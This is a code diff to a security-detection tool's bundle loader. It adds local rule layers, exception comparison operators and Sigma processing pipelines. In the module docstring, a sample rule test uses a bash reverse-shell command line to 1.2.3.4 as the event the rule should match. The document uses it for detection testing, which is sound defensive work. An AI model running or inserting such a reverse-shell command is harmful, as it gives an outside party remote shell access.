@@ -7,6 +7,8 @@ Layout of a bundle directory::
     rules/**/*.yaml      mappings with any of: lists, macros, rules, tests
     tests/**/*.yaml      same format (usually only tests, e.g. for Sigma rules)
     sigma/**/*.yml       Sigma rules (with their LICENSE)
+    sigma/pipelines/*.yml  pySigma processing pipelines applied after the hub's own
+                         (sigma_pipeline.py): field mappings or conditions for your fleet
 
 Rule files may also hold one ``sigma:`` section tuning the Sigma rules to the fleet::
 
@@ -28,6 +30,10 @@ A rule::
         - name: lab_hosts
           fields: [host.name, user.name]
           values: [[lab1, alice]]
+        - name: backups                  # comps: =, !=, in, startswith, endswith, contains,
+          fields: [process.name, file.path]  # glob, cidr, <, <=, >, >= and the i* forms
+          comps: [in, startswith]
+          values: [[[borg, restic], /srv/backup/]]
       enabled: true
       tests:
         match: [{event.action: exec, process.command_line: "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}]
@@ -35,6 +41,9 @@ A rule::
 
 A condition may be a sequence (query/parser.py, rules/README.md); its tests are lists of
 events, in order: ``match: [[{...}, {...}]]``.
+
+A local layer (``layer: local`` in its manifest) is compiled on top of a base bundle by
+:func:`load_stack`; what it may say is in hub/rules/local_layer.py.
 
 Every problem is collected and reported together, each naming file:line and the rule.
 """
@@ -50,8 +59,11 @@ from typing import Any
 from threatseer.common import __version__, ecs
 from threatseer.hub.rules.archive import Files, content_digest, read_files
 from threatseer.hub.rules.model import (
+    BASE,
+    LOCAL,
     Bundle,
     Iocs,
+    Layer,
     Manifest,
     RiskyProcess,
     RuleTest,
@@ -60,14 +72,26 @@ from threatseer.hub.rules.model import (
 )
 from threatseer.hub.rules.query.ast import Cmp, Node, Not, Or, Sequence, conj
 from threatseer.hub.rules.query.errors import QueryError
-from threatseer.hub.rules.query.parser import parse, parse_field, parse_rule_condition
+from threatseer.hub.rules.query.parser import WORD_OPS, parse, parse_field, parse_rule_condition
 from threatseer.hub.rules.ruleset import CompiledRule, IndexedRuleSet
 from threatseer.hub.rules.sequence import SequenceRule, SequenceStep
 from threatseer.hub.rules.sigma import SigmaUnsupported, compile_sigma
+from threatseer.hub.rules.sigma_pipeline import load_user_pipeline, pipeline_for
 from threatseer.hub.rules.yamlfile import BundleError, LineDict, line_of, load_yaml
 
+PIPELINES_DIR = "sigma/pipelines/"
 RULE_KEYS = {"rule", "description", "condition", "score", "tags", "output", "exceptions",
              "enabled", "tests"}
+EXCEPTION_KEYS = {"name", "fields", "comps", "values"}
+# An exception's comparison operators (Falco's ``comps``): the query language's, less those
+# that make no sense for a value (exists) or could backtrack on event text (regex).
+COMPS: dict[str, tuple[str, bool]] = {
+    "=": ("=", False), "==": ("=", False), "<": ("<", False), "<=": ("<=", False),
+    ">": (">", False), ">=": (">=", False),
+    **{w: op for w, op in WORD_OPS.items() if op[0] not in ("exists", "regex")},
+}
+# Files of a local layer are read under this prefix (their paths in errors are the layer's).
+LOCAL_PREFIX = "@local/"
 _SHA256 = re.compile(r"[0-9a-f]{64}\Z")
 
 
@@ -114,9 +138,15 @@ class _Loader:
             return kind()
         return value
 
-    def __init__(self, files: Files, source: str) -> None:
+    def __init__(self, files: Files, source: str, local_files: Files | None = None,
+                 local_source: str = "") -> None:
         self.files = files
         self.source = source.rstrip("/")
+        self.local_source = local_source.rstrip("/")
+        self.stacked = local_files is not None
+        if local_files is not None:
+            self.files = {**files, **{LOCAL_PREFIX + rel: data
+                                      for rel, data in local_files.items()}}
         self.errors: list[str] = []
         self.unsupported: list[str] = []
         self.lists: dict[str, tuple[Any, ...]] = {}
@@ -126,10 +156,23 @@ class _Loader:
         self.rule_docs: list[tuple[str, LineDict]] = []  # (file, doc)
         self.test_docs: list[tuple[str, Any, str | None]] = []  # (file, doc, owning rule)
         self.sigma_doc: tuple[str, LineDict] | None = None
+        # The local layer's documents, merged in by local_layer.apply() (rel, line, ...).
+        self.local_lists: list[tuple[str, int, str, Any]] = []
+        self.local_macros: list[tuple[str, int, str, Any]] = []
+        self.local_rule_docs: list[tuple[str, LineDict]] = []
+        self.local_sigma_doc: tuple[str, LineDict] | None = None
+        # Sigma tuning (from the base's and the local layer's sigma: sections and the local
+        # layer's overrides of Sigma rules by name): name or id -> [(rel, override doc)].
+        self.sigma_tunes: dict[str, list[tuple[str, LineDict]]] = {}
+        self.sigma_excludes: list[tuple[str, int, str]] = []  # (rel, line, condition text)
         self.sequences: dict[str, SequenceRule] = {}
 
     def where(self, rel: str, line: int = 0) -> str:
-        return f"{self.source}/{rel}:{line}" if line else f"{self.source}/{rel}"
+        if rel.startswith(LOCAL_PREFIX):
+            path = f"{self.local_source}/{rel[len(LOCAL_PREFIX):]}"
+        else:
+            path = f"{self.source}/{rel}"
+        return f"{path}:{line}" if line else path
 
     def error(self, rel: str, line: int, message: str, rule: str | None = None) -> None:
         prefix = f"rule {rule!r}: " if rule else ""
@@ -144,8 +187,8 @@ class _Loader:
 
     # ---- manifest and static data ---------------------------------------------------
 
-    def manifest(self) -> Manifest:
-        rel = "manifest.yaml"
+    def manifest(self, prefix: str = "") -> Manifest:
+        rel = prefix + "manifest.yaml"
         if rel not in self.files:
             self.error(rel, 0, "missing (a bundle needs a manifest)")
             return Manifest("invalid", "0")
@@ -153,21 +196,26 @@ class _Loader:
         if not isinstance(doc, dict):
             self.error(rel, 1, "must be a mapping with name and version")
             return Manifest("invalid", "0")
-        unknown = set(doc) - {"name", "version", "description", "min_threatseer"}
+        unknown = set(doc) - {"name", "version", "description", "min_threatseer", "layer",
+                              "base"}
         for key in sorted(unknown):
             self.error(rel, line_of(doc), f"unknown key {key!r}")
         for key in ("name", "version"):
             if not isinstance(doc.get(key), str | int | float) or not str(doc[key]).strip():
                 self.error(rel, line_of(doc), f"{key} is required")
+        layer = str(doc.get("layer", BASE))
+        if layer not in (BASE, LOCAL):
+            self.error(rel, line_of(doc), f"layer must be {BASE} or {LOCAL}, not {layer!r}")
         m = Manifest(str(doc.get("name", "invalid")), str(doc.get("version", "0")),
-                     str(doc.get("description", "")), str(doc.get("min_threatseer", "0.1.0")))
+                     str(doc.get("description", "")), str(doc.get("min_threatseer", "0.1.0")),
+                     layer, str(doc.get("base") or ""))
         if _version(m.min_threatseer) > _version(__version__):
             self.error(rel, line_of(doc), f"needs threatseer >= {m.min_threatseer} "
                        f"(this is {__version__})")
         return m
 
-    def static(self) -> StaticData:
-        rel = "static.yaml"
+    def static(self, prefix: str = "") -> StaticData:
+        rel = prefix + "static.yaml"
         if rel not in self.files:
             return StaticData()
         doc = self.yaml(rel) or {}
@@ -210,9 +258,16 @@ class _Loader:
 
     # ---- lists, macros, rules, tests -----------------------------------------------
 
-    def collect(self) -> None:
+    def collect(self, prefix: str = "") -> None:
+        """Read the rule files of the base (``prefix`` "") or of the local layer
+        (:data:`LOCAL_PREFIX`, kept apart for local_layer.apply())."""
+        local = prefix == LOCAL_PREFIX
         for rel in sorted(self.files):
-            if not rel.endswith((".yaml", ".yml")) or not rel.startswith(("rules/", "tests/")):
+            if not rel.endswith((".yaml", ".yml")) or not rel.startswith(
+                    (prefix + "rules/", prefix + "tests/")):
+                continue
+            if local:
+                self.collect_local(rel)
                 continue
             doc = self.yaml(rel)
             if doc is None:
@@ -228,6 +283,8 @@ class _Loader:
                     self.error(rel, line_of(doc), "one sigma: mapping per bundle")
                 else:
                     self.sigma_doc = (rel, sigma)
+            # A stack runs the local layer's tests; the base's ran when it was installed.
+            keep_tests = not self.stacked
             for key in sorted(set(doc) - {"lists", "macros", "rules", "tests", "sigma"}):
                 self.error(rel, line_of(doc), f"unknown key {key!r}")
             for name, items in self.section(rel, doc, "lists", dict).items():
@@ -246,15 +303,54 @@ class _Loader:
                     self.error(rel, line_of(doc), "each rule must be a mapping")
                     continue
                 self.rule_docs.append((rel, rule))
-                if rule.get("tests") is not None:
+                if rule.get("tests") is not None and keep_tests:
                     self.test_docs.append((rel, rule.get("tests"), str(rule.get("rule"))))
             tests = doc.get("tests")
-            if tests is not None:
+            if tests is not None and keep_tests:
                 if not isinstance(tests, list):
                     self.error(rel, line_of(doc), "tests must be a list")
                 else:
                     for t in tests:
                         self.test_docs.append((rel, t, None))
+
+    def collect_local(self, rel: str) -> None:
+        """One rule file of the local layer: its entries are kept as written, to be merged
+        over the base's by local_layer.apply()."""
+        doc = self.yaml(rel)
+        if doc is None:
+            return
+        if isinstance(doc, list):
+            doc = LineDict(rules=doc)
+        if not isinstance(doc, dict):
+            self.error(rel, 1, "must be a mapping with lists, macros, rules, tests or sigma")
+            return
+        for key in sorted(set(doc) - {"lists", "macros", "rules", "tests", "sigma"}):
+            self.error(rel, line_of(doc), f"unknown key {key!r}")
+        sigma = doc.get("sigma")
+        if sigma is not None:
+            if self.local_sigma_doc is not None or not isinstance(sigma, dict):
+                self.error(rel, line_of(doc), "one sigma: mapping per local layer")
+            else:
+                self.local_sigma_doc = (rel, sigma)
+        lists = self.section(rel, doc, "lists", dict)
+        for name, value in lists.items():
+            self.local_lists.append((rel, line_of(value, line_of(lists)), str(name), value))
+        macros = self.section(rel, doc, "macros", dict)
+        for name, value in macros.items():
+            self.local_macros.append((rel, line_of(value, line_of(macros)), str(name), value))
+        for rule in self.section(rel, doc, "rules", list):
+            if not isinstance(rule, dict):
+                self.error(rel, line_of(doc), "each rule must be a mapping")
+                continue
+            self.local_rule_docs.append((rel, rule))
+            if rule.get("tests") is not None:
+                self.test_docs.append((rel, rule.get("tests"), str(rule.get("rule"))))
+        tests = doc.get("tests")
+        if tests is not None:
+            if not isinstance(tests, list):
+                self.error(rel, line_of(doc), "tests must be a list")
+            else:
+                self.test_docs.extend((rel, t, None) for t in tests)
 
     def macro(self, name: str) -> Node | None:
         if name in self.macros:
@@ -277,25 +373,84 @@ class _Loader:
         return node
 
     def exceptions(self, rel: str, rule: LineDict, name: str) -> Node | None:
-        """``not (tuple1 or tuple2 ...)`` for the rule's exceptions."""
+        """``not (tuple1 or tuple2 ...)`` for the rule's exceptions.
+
+        Falco's form: ``fields`` and ``comps`` (default ``=`` each) pair up with each tuple
+        of ``values``; ``in`` takes a list (or a list's name) as its value. With one field
+        given as a plain string, ``comps`` is one operator too and each value is a tuple of
+        one (``in``: all values together).
+        """
         suppress: list[Node] = []
         for exc in self.section(rel, rule, "exceptions", list, name):
             line = line_of(exc, line_of(rule))
-            if not isinstance(exc, dict) or not isinstance(exc.get("fields"), list):
+            if not isinstance(exc, dict) or not isinstance(exc.get("fields"), list | str):
                 self.error(rel, line, "exception needs fields: [..] and values: [[..]]", name)
                 continue
-            fields = [parse_field(str(f)) for f in exc["fields"]]
-            for values in self.section(rel, exc, "values", list, name):
+            label = f"exception {exc.get('name', '')!r}"
+            for key in sorted(set(exc) - EXCEPTION_KEYS):
+                self.error(rel, line, f"{label}: unknown key {key!r}", name)
+            single = isinstance(exc["fields"], str)
+            names = [exc["fields"]] if single else exc["fields"]
+            comps = exc.get("comps", "=" if single else ["="] * len(names))
+            if single and isinstance(comps, str):
+                comps = [comps]
+            if not isinstance(comps, list) or len(comps) != len(names) or not all(
+                    isinstance(c, str) for c in comps):
+                self.error(rel, line, f"{label}: comps must give one operator per field",
+                           name)
+                continue
+            bad = [c for c in comps if c.lower() not in COMPS and c != "!="]
+            if bad:
+                self.error(rel, line, f"{label}: unknown comparison {bad[0]!r} (known: "
+                           f"{', '.join(sorted([*COMPS, '!=']))})", name)
+                continue
+            try:
+                fields = [parse_field(str(f)) for f in names]
+            except QueryError as err:
+                self.error(rel, line, f"{label}: {err}", name)
+                continue
+            rows = self.section(rel, exc, "values", list, name)
+            if single:  # each value is one tuple; `in` takes them all at once
+                rows = [[rows]] if comps[0].lower() == "in" else [[v] for v in rows]
+            for values in rows:
                 values = values if isinstance(values, list) else [values]
                 if len(values) != len(fields):
-                    self.error(rel, line, f"exception {exc.get('name', '')!r}: {values!r} "
-                               f"has {len(values)} values for {len(fields)} fields", name)
+                    self.error(rel, line, f"{label}: {values!r} has {len(values)} values for "
+                               f"{len(fields)} fields", name)
                     continue
-                suppress.append(conj(*(Cmp(f, "=", (v,)) for f, v in
-                                       zip(fields, values, strict=True))))
+                tests = [self.comparison(rel, line, label, name, f, c, v)
+                         for f, c, v in zip(fields, comps, values, strict=True)]
+                if all(t is not None for t in tests):
+                    suppress.append(conj(*tests))  # type: ignore[arg-type]
         if not suppress:
             return None
         return Not(suppress[0] if len(suppress) == 1 else Or(tuple(suppress)))
+
+    def comparison(self, rel: str, line: int, label: str, rule: str, field: Any, comp: str,
+                   value: Any) -> Node | None:
+        """One ``field comp value`` of an exception tuple, or None (error recorded)."""
+        if comp == "!=":
+            return Not(Cmp(field, "=", (value,)))
+        op, nocase = COMPS[comp.lower()]
+        if comp.lower() == "in":
+            if isinstance(value, str) and value in self.lists:
+                value = list(self.lists[value])
+            if not isinstance(value, list) or not value:
+                self.error(rel, line, f"{label}: 'in' takes a list of values or a list's "
+                           f"name, not {value!r}", rule)
+                return None
+            return Cmp(field, op, tuple(value), nocase)
+        if isinstance(value, list | dict) or value is None:
+            self.error(rel, line, f"{label}: {comp!r} compares with one value, not "
+                       f"{value!r}", rule)
+            return None
+        if op == "cidr":
+            try:
+                ipaddress.ip_network(str(value), strict=False)
+            except ValueError:
+                self.error(rel, line, f"{label}: not an IP network: {value!r}", rule)
+                return None
+        return Cmp(field, op, (value,), nocase)
 
     def rule(self, rel: str, doc: LineDict) -> list[CompiledRule]:
         """The compiled rule (a sequence: its steps), none when disabled or bad."""
@@ -328,7 +483,7 @@ class _Loader:
             return [CompiledRule(
                 name=name, engine="dynamic", type="query", description=description,
                 score=score, tags=tags, condition=condition, output=output,
-                source=self.where(rel, line))]
+                source=self.where(rel, line), meta={"id": name})]
         except QueryError as exc:
             self.error(rel, line, f"condition: {exc}", name)
             return []
@@ -343,62 +498,108 @@ class _Loader:
             name=f"{name}[{i + 1}]", engine="dynamic", type="sequence-step",
             description=description, score=0, tags=tags,
             condition=step.condition if exc is None else conj(step.condition, exc),
-            source=source, sequence=rule, index=i) for i, step in enumerate(seq.steps)]
+            source=source, meta={"id": name}, sequence=rule, index=i)
+            for i, step in enumerate(seq.steps)]
 
-    def sigma(self) -> tuple[list[CompiledRule], set[str]]:
-        """(compiled Sigma rules, names of those disabled by overrides)."""
+    def sigma_rules(self) -> list[CompiledRule]:
+        """Every Sigma rule of the bundle (and of its local layer), untuned."""
         out = []
+        user_pipelines = []
         for rel in sorted(self.files):
-            if not rel.startswith("sigma/") or not rel.endswith((".yml", ".yaml")):
+            if rel.startswith((PIPELINES_DIR, LOCAL_PREFIX + PIPELINES_DIR)) and \
+                    rel.endswith((".yml", ".yaml")):
+                try:
+                    user_pipelines.append(load_user_pipeline(
+                        self.files[rel].decode("utf-8", "replace"), rel))
+                except ValueError as exc:
+                    self.error(rel, 1, str(exc).split(": ", 1)[1])
+        pipeline = pipeline_for(user_pipelines)
+        for rel in sorted(self.files):
+            if (not rel.startswith(("sigma/", LOCAL_PREFIX + "sigma/"))
+                    or rel.startswith((PIPELINES_DIR, LOCAL_PREFIX + PIPELINES_DIR))
+                    or not rel.endswith((".yml", ".yaml"))):
                 continue
             try:
                 out.append(compile_sigma(self.files[rel].decode("utf-8", "replace"),
-                                         self.where(rel)))
+                                         self.where(rel), pipeline))
             except SigmaUnsupported as exc:
                 self.unsupported.append(f"{self.where(rel)}: {exc}")
-        if self.sigma_doc is None:
-            return out, set()
-        return self.tune_sigma(out)
+        return out
+
+    def sigma(self, rules: list[CompiledRule] | None = None
+              ) -> tuple[list[CompiledRule], set[str]]:
+        """(compiled and tuned Sigma rules, names of those disabled by overrides)."""
+        if rules is None:
+            rules = self.sigma_rules()
+        return self.tune_sigma(rules)
+
+    def sigma_tuning(self) -> tuple[list[tuple[str, int, str]], dict[str, list[Any]]]:
+        """Exclude conditions and overrides by rule name, the base's then the local layer's."""
+        excludes: list[tuple[str, int, str]] = []
+        tunes: dict[str, list[tuple[str, LineDict]]] = {}
+        if self.sigma_doc is not None:
+            rel, doc = self.sigma_doc
+            for key in sorted(set(doc) - {"exclude", "overrides"}):
+                self.error(rel, line_of(doc), f"sigma: unknown key {key!r}")
+            if doc.get("exclude"):
+                excludes.append((rel, line_of(doc), str(doc["exclude"])))
+            overrides = self.section(rel, doc, "overrides", dict)
+            for name, o in overrides.items():
+                if not isinstance(o, dict):
+                    self.error(rel, line_of(overrides), "sigma.overrides: each must be a "
+                               "mapping", str(name))
+                    continue
+                if not isinstance(o, LineDict):
+                    o = LineDict(o)
+                    o.line = line_of(overrides)
+                tunes.setdefault(str(name), []).append((rel, o))
+        excludes.extend(self.sigma_excludes)
+        for name, items in self.sigma_tunes.items():
+            tunes.setdefault(name, []).extend(items)
+        return excludes, tunes
 
     def tune_sigma(self, rules: list[CompiledRule]) -> tuple[list[CompiledRule], set[str]]:
-        rel, doc = self.sigma_doc  # type: ignore[misc]
-        for key in sorted(set(doc) - {"exclude", "overrides"}):
-            self.error(rel, line_of(doc), f"sigma: unknown key {key!r}")
-        exclude: Node | None = None
-        if doc.get("exclude"):
+        excludes, tunes = self.sigma_tuning()
+        parts: list[Node] = []
+        for rel, line, text in excludes:
             try:
-                exclude = Not(parse(str(doc["exclude"]), self.macro, self.lists))
+                parts.append(parse(text, self.macro, self.lists))
             except QueryError as exc:
-                self.error(rel, line_of(doc), f"sigma.exclude: {exc}")
-        overrides = self.section(rel, doc, "overrides", dict)
-        by_key = {k: r for r in rules for k in (r.name, r.extra.get("sigma_id"))}
-        for name in overrides:
+                self.error(rel, line, f"sigma.exclude: {exc}")
+        exclude = Not(parts[0] if len(parts) == 1 else Or(tuple(parts))) if parts else None
+        by_key = {k: r for r in rules for k in (r.name, r.extra.get("sigma_id")) if k}
+        for name, items in tunes.items():
             if name not in by_key:
-                self.error(rel, line_of(overrides), f"sigma.overrides: no Sigma rule {name!r}")
+                rel, o = items[0]
+                self.error(rel, line_of(o), f"sigma.overrides: no Sigma rule {name!r}")
         out: list[CompiledRule] = []
         disabled: set[str] = set()
         for r in rules:
-            o = overrides.get(r.name) or overrides.get(r.extra.get("sigma_id")) or {}
-            if not isinstance(o, dict):
-                self.error(rel, line_of(overrides), "sigma.overrides: each must be a mapping",
-                           r.name)
-                o = {}
-            if not o.get("enabled", True):
+            items = [*tunes.get(r.name, ()), *tunes.get(r.extra.get("sigma_id") or "", ())]
+            enabled, score, suppress = True, r.score, []
+            for rel, o in items:
+                if "enabled" in o:
+                    enabled = bool(o["enabled"])
+                if "score" in o:
+                    try:
+                        score = int(o["score"])
+                    except (TypeError, ValueError):
+                        self.error(rel, line_of(o), "score must be an integer", r.name)
+                if getattr(o, "replace_exceptions", False):
+                    suppress = []
+                try:
+                    exc = self.exceptions(rel, o, r.name) if o.get("exceptions") else None
+                except QueryError as err:
+                    self.error(rel, line_of(o), f"exceptions: {err}", r.name)
+                    exc = None
+                if exc is not None:
+                    suppress.append(exc)
+            if not enabled:
                 disabled.update((r.name, r.extra.get("sigma_id", "")))
                 continue
             condition = r.condition if exclude is None else conj(r.condition, exclude)
-            try:
-                exc = self.exceptions(rel, o, r.name) if o.get("exceptions") else None
-            except QueryError as err:
-                self.error(rel, line_of(o), f"exceptions: {err}", r.name)
-                exc = None
-            if exc is not None:
-                condition = conj(condition, exc)
-            try:
-                score = int(o.get("score", r.score))
-            except (TypeError, ValueError):
-                self.error(rel, line_of(o), "score must be an integer", r.name)
-                score = r.score
+            if suppress:
+                condition = conj(condition, *suppress)
             out.append(replace(r, condition=condition, score=score))
         return out, disabled
 
@@ -444,8 +645,47 @@ def load_files(files: Files, source: str) -> Bundle:
     """Compile a bundle from its files; raise BundleError listing every problem."""
     loader = _Loader(files, source)
     manifest = loader.manifest()
+    if manifest.layer == LOCAL:  # nothing else can be checked without its base
+        loader.error("manifest.yaml", 0, "is a local layer: it compiles only on a base bundle "
+                     "(rules validate/test --base, or publish it to a hub)")
+        raise BundleError(loader.errors)
     static = loader.static()
     loader.collect()
+    return _compile(loader, manifest, static, files, None)
+
+
+def load_stack(base_files: Files, base_source: str, local_files: Files,
+               local_source: str) -> Bundle:
+    """Compile a base bundle with a local layer over it (hub/rules/local_layer.py); raise
+    BundleError listing every problem, each naming the file (of either) and line."""
+    from threatseer.hub.rules import local_layer
+
+    loader = _Loader(base_files, base_source, local_files, local_source)
+    manifest = loader.manifest()
+    local = loader.manifest(LOCAL_PREFIX)
+    if manifest.layer != BASE:
+        loader.error("manifest.yaml", 0, "a local layer cannot be the base of a stack")
+    if local.layer != LOCAL:
+        loader.error(LOCAL_PREFIX + "manifest.yaml", 0, "is not a local layer (its manifest "
+                     "needs layer: local)")
+    elif local.base and local.base != manifest.name:
+        loader.error(LOCAL_PREFIX + "manifest.yaml", 0, f"is a local layer for base "
+                     f"{local.base!r}, not {manifest.name!r}")
+    static = local_layer.merge_static(loader.static(), loader.static(LOCAL_PREFIX))
+    loader.collect()
+    loader.collect(LOCAL_PREFIX)
+    layer = Layer(local, content_digest(local_files), local_source)
+    return _compile(loader, manifest, static, base_files, layer)
+
+
+def _compile(loader: _Loader, manifest: Manifest, static: StaticData, files: Files,
+             layer: Layer | None) -> Bundle:
+    sigma_rules = loader.sigma_rules()
+    if layer is not None:
+        from threatseer.hub.rules import local_layer
+
+        local_layer.apply(loader, {k for r in sigma_rules
+                                   for k in (r.name, r.extra.get("sigma_id")) if k})
     rules: list[CompiledRule] = []
     disabled: set[str] = set()
     seen: dict[str, str] = {}
@@ -464,7 +704,7 @@ def load_files(files: Files, source: str) -> Bundle:
             loader.macro(name)
         except QueryError as exc:
             loader.errors.append(f"{where}: macro {name!r}: {exc}")
-    sigma_rules, sigma_disabled = loader.sigma()
+    sigma_rules, sigma_disabled = loader.sigma(sigma_rules)
     disabled |= sigma_disabled
     known: dict[str, CompiledRule] = {}
     for r in sigma_rules:
@@ -479,14 +719,33 @@ def load_files(files: Files, source: str) -> Bundle:
         raise BundleError(loader.errors)
     return Bundle(manifest=manifest, static=static,
                   ruleset=IndexedRuleSet([*rules, *sigma_rules]),
-                  digest=content_digest(files), source=source,
-                  unsupported=loader.unsupported, tests=tests)
+                  digest=content_digest(files), source=loader.source,
+                  unsupported=loader.unsupported, tests=tests, local=layer)
 
 
-def load_bundle(path: str | Path) -> Bundle:
-    """Load and compile the bundle directory or archive at ``path``."""
+def manifest_of(files: Files) -> dict[str, Any]:
+    """The manifest's mapping as written (empty when unreadable): to tell a local layer from a
+    base before compiling either."""
+    try:
+        doc = load_yaml(files.get("manifest.yaml", b""), "manifest.yaml")
+    except BundleError:
+        return {}
+    return doc if isinstance(doc, dict) else {}
+
+
+def is_local_layer(files: Files) -> bool:
+    return manifest_of(files).get("layer") == LOCAL
+
+
+def load_bundle(path: str | Path, local: str | Path | None = None) -> Bundle:
+    """Load and compile the bundle directory or archive at ``path``, with the local layer at
+    ``local`` stacked on it when given."""
     files, _ = read_files(path)
-    return load_files(files, str(path))
+    if local is None:
+        return load_files(files, str(path))
+    local_files, _ = read_files(local)
+    return load_stack(files, str(path), local_files, str(local))
 
 
-__all__ = ["BundleError", "complete_event", "load_bundle", "load_files"]
+__all__ = ["BundleError", "complete_event", "is_local_layer", "load_bundle", "load_files",
+           "load_stack"]
